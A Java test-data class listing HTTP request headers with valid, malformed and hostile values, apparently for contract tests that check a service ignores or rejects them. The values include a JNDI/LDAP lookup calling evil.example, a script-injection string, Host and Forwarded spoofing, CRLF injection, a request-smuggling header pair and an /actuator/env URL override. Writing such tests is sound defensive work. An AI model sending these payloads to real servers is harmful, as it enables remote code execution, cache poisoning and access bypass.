package org.honorarycities.contract;

import java.nio.charset.StandardCharsets;
import java.util.Collection;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** The request headers that clients, proxies and attackers send, each with values that are wrong in some way. */
final class RequestHeaders {

    static final List<String> FORWARDED = List.of(
            "Forwarded",
            "X-Forwarded",
            "X-Forwarded-By",
            "X-Forwarded-For",
            "X-Forwarded-Host",
            "X-Forwarded-Path",
            "X-Forwarded-Port",
            "X-Forwarded-Prefix",
            "X-Forwarded-Proto",
            "X-Forwarded-Protocol",
            "X-Forwarded-Scheme",
            "X-Forwarded-Server",
            "X-Forwarded-Ssl",
            "X-Forwarded-Uri");

    /** Those on which a response may depend, or by which it may be refused. */
    private static final Set<String> USED = Set.of(
            "Accept",
            "Accept-Encoding",
            "Accept-Language",
            "Connection",
            "Content-Length",
            "Expect",
            "Host",
            "If-Match",
            "If-Modified-Since",
            "If-None-Match",
            "If-Range",
            "If-Unmodified-Since",
            "Keep-Alive",
            "Range",
            "Transfer-Encoding",
            "Upgrade");

    private static final List<String> UNUSED = List.of(
            "Accept-Charset",
            "Accept-Datetime",
            "Accept-Ranges",
            "Access-Control-Request-Headers",
            "Access-Control-Request-Method",
            "Access-Control-Request-Private-Network",
            "Age",
            "Allow",
            "Alt-Used",
            "Authorization",
            "baggage",
            "Cache-Control",
            "Content-Disposition",
            "Content-Encoding",
            "Content-Language",
            "Content-Location",
            "Content-MD5",
            "Content-Range",
            "Content-Type",
            "Cookie",
            "Date",
            "Depth",
            "DNT",
            "Early-Data",
            "ETag",
            "Expires",
            "From",
            "HTTP2-Settings",
            "If",
            "Last-Modified",
            "Link",
            "Location",
            "Max-Forwards",
            "Origin",
            "Pragma",
            "Prefer",
            "Priority",
            "Proxy",
            "Proxy-Authorization",
            "Proxy-Connection",
            "Referer",
            "Save-Data",
            "Sec-CH-UA",
            "Sec-Fetch-Mode",
            "Sec-Fetch-Site",
            "Sec-GPC",
            "Sec-WebSocket-Key",
            "Server",
            "Set-Cookie",
            "SOAPAction",
            "TE",
            "traceparent",
            "tracestate",
            "Trailer",
            "True-Client-IP",
            "Upgrade-Insecure-Requests",
            "User-Agent",
            "Vary",
            "Via",
            "Want-Content-Digest",
            "Warning",
            "WWW-Authenticate",
            "X-B3-TraceId",
            "X-Client-IP",
            "X-Host",
            "X-HTTP-Method",
            "X-HTTP-Method-Override",
            "X-HTTP-Path-Override",
            "X-Method-Override",
            "X-Original-Host",
            "X-Original-Method",
            "X-Original-URI",
            "X-Original-URL",
            "X-Override-URL",
            "X-Real-IP",
            "X-Request-ID",
            "X-Requested-With",
            "X-Rewrite-URL",
            "X-Url-Scheme");

    /** Values that HTTP allows for any header; the fifth is UTF-8 as it goes over the wire. */
    private static final List<String> LEGAL = List.of(
            "",
            "a".repeat(5_000),
            ";;;q=,,=\"",
            "99999999999999999999",
            new String("\u041a\u0438\u0435\u0432".getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1),
            "*",
            "/%zz",
            "//evil.example",
            "http://evil.example/",
            "<script>alert(1)</script>${jndi:ldap://evil.example/a}");

    private static final List<String> ILLEGAL = List.of("a\u0000b", "a\r\n b");

    /** Values that mean something in one header only. */
    private static final Map<String, List<String>> OWN = Map.ofEntries(
            Map.entry("Accept", List.of("image/png", "text/csv;q=2", "a/b/c", "text/html;q=0.9, */*;q=0")),
            Map.entry("Accept-Encoding", List.of("gzip", "br;q=1, gzip;q=0", "identity;q=0", "*;q=0")),
            Map.entry("Accept-Language", List.of("ru", "zh-Hant-TW;q=x", "a-b-c-d-e-f-g-h-i-j")),
            Map.entry("Access-Control-Request-Method", List.of("POST", "GET")),
            Map.entry("Connection", List.of("close", "upgrade", "Accept, Host", "TE", "keep-alive, close")),
            Map.entry("Content-Length", List.of("0", "5", "+5", "5, 5", "0x5", "5 5")),
            Map.entry("Content-Type", List.of("multipart/form-data", "application/x-www-form-urlencoded")),
            Map.entry("Cookie", List.of("JSESSIONID=1", "a=b; lang=ru")),
            Map.entry("Expect", List.of("100-continue", "200-ok")),
            Map.entry("Forwarded", List.of("host=evil.example;proto=https", "for=_x;;", "host=\"a b\"")),
            Map.entry("Host", List.of("evil.example", "a:b:c", "[::1", "a, b", "a@evil.example", "localhost:99999")),
            Map.entry("If-Match", List.of("\"a\"", "W/\"a\"", "\"a")),
            Map.entry("If-Modified-Since", List.of("Fri, 31 Dec 2100 23:59:59 GMT", "31 Dec")),
            Map.entry("If-None-Match", List.of("\"a\"", "\"a", "W/")),
            Map.entry("If-Range", List.of("\"a\"", "Fri, 31 Dec 2100 23:59:59 GMT")),
            Map.entry("If-Unmodified-Since", List.of("Sun, 06 Nov 1994 08:49:37 GMT")),
            Map.entry("Range", List.of("bytes=0-5", "bytes=9-5", "bytes=999999-", "bytes=0-1,3-4", "lines=1-2")),
            Map.entry("TE", List.of("trailers, deflate;q=0.5")),
            Map.entry("Trailer", List.of("Host")),
            Map.entry("Transfer-Encoding", List.of("chunked", "gzip, chunked", "chunked, identity", "identity")),
            Map.entry("Upgrade", List.of("h2c", "websocket", "TLS/1.0")),
            Map.entry("X-Forwarded-Host", List.of("a b", "evil.example:x", "evil.example, b")),
            Map.entry("X-Forwarded-Port", List.of("0", "65536", "x")),
            Map.entry("X-Forwarded-Prefix", List.of("aaa", "aaa/", "/a/../b", "/a?b", "/a, /b")),
            Map.entry("X-Forwarded-Proto", List.of("gopher", "https, http")),
            Map.entry("X-HTTP-Method-Override", List.of("DELETE", "HEAD")),
            Map.entry("X-Original-URL", List.of("/actuator/env")));

    /** Header lines that are none. */
    private static final List<String> MALFORMED =
            List.of("X", ": x", " X: x", "X : x", "X\u0001: x", "X: x\r\nX", "(X): x", "\u00e9: x");

    private RequestHeaders() {}

    /**
     * All headers that mean something with all values, all others with some, combinations of headers, and lines that
     * are no headers.
     *
     * @param turn which of the values the others have: the values of two turns differ
     */
    static Stream<List<String>> all(int turn) {
        List<String> withoutMeaning =
                UNUSED.stream().filter(name -> !OWN.containsKey(name)).toList();
        return Stream.of(
                        Stream.of(USED, UNUSED, FORWARDED)
                                .flatMap(Collection::stream)
                                .filter(name -> !withoutMeaning.contains(name))
                                .sorted()
                                .flatMap(RequestHeaders::withEveryValue),
                        IntStream.range(0, withoutMeaning.size())
                                .boxed()
                                .flatMap(number -> withSomeValues(withoutMeaning.get(number), 3 * (turn + number))),
                        combinations(),
                        MALFORMED.stream().map(List::of))
                .flatMap(headers -> headers);
    }

    /** The headers that a trusted proxy may set, with all values. */
    static Stream<List<String>> forwarded() {
        return Stream.concat(FORWARDED.stream().flatMap(RequestHeaders::withEveryValue), combinations());
    }

    /** Whether nothing may depend on the headers, as the service uses none of them and HTTP allows their values. */
    static boolean areUnused(List<String> headers) {
        return headers.stream().allMatch(header -> {
            String[] parts = header.split(": *", 2);
            return (UNUSED.contains(parts[0]) || FORWARDED.contains(parts[0]))
                    && parts[1].chars().noneMatch(Character::isISOControl);
        });
    }

    private static Stream<List<String>> withEveryValue(String name) {
        return Stream.concat(
                Stream.of(LEGAL, ILLEGAL, OWN.getOrDefault(name, List.of()))
                        .flatMap(List::stream)
                        .map(value -> List.of(name + ": " + value)),
                Stream.of(List.of(name + ": *", name + ": 2")));
    }

    private static Stream<List<String>> withSomeValues(String name, int first) {
        return IntStream.range(first, first + 3)
                .mapToObj(number -> List.of(name + ": " + LEGAL.get(number % LEGAL.size())));
    }

    private static Stream<List<String>> combinations() {
        return Stream.of(
                List.of("Connection: upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABk"),
                List.of(
                        "Connection: upgrade",
                        "Upgrade: websocket",
                        "Sec-WebSocket-Version: 13",
                        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="),
                List.of("Connection: TE, Trailer", "TE: trailers", "Trailer: ETag"),
                List.of("Connection: Content-Length", "Content-Length: 3"),
                List.of("Content-Length: 3", "Transfer-Encoding: chunked"),
                List.of("Expect: 100-continue", "Content-Length: 3"),
                List.of("Range: bytes=0-5", "If-Range: \"a\"", "Accept-Encoding: gzip"),
                List.of("Origin: https://evil.example", "Access-Control-Request-Method: DELETE"),
                List.of("X-Forwarded-Prefix: //evil.example", "X-Forwarded-Host: evil.example"));
    }
}
